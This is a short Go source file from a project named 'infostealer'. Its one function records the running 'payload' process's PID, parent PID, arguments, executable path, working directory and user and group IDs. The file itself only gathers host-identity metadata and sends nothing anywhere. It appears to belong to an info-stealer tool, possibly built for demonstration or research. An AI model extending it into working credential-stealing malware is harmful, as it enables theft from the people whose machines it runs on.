package probe

import "github.com/gzhole/infostealer/internal/logger"

// CollectProcessContext captures the identity of the running payload.
func CollectProcessContext(proc Process, log *logger.Narrator) ProcessContext {
	log.Info("Collecting process information...")

	pc := ProcessContext{
		PID:  proc.Pid(),
		PPID: proc.Ppid(),
		Argv: proc.Args(),
	}
	if pc.Argv == nil {
		pc.Argv = []string{}
	}
	if exe, err := proc.Executable(); err == nil {
		pc.ExecPath = exe
	}
	if cwd, err := proc.Getwd(); err == nil {
		pc.Cwd = cwd
	}
	if uid, gid, groups, ok := proc.IDs(); ok {
		pc.UID = &uid
		pc.GID = &gid
		pc.Groups = groups
		if pc.Groups == nil {
			pc.Groups = []int{}
		}
	}
	return pc
}
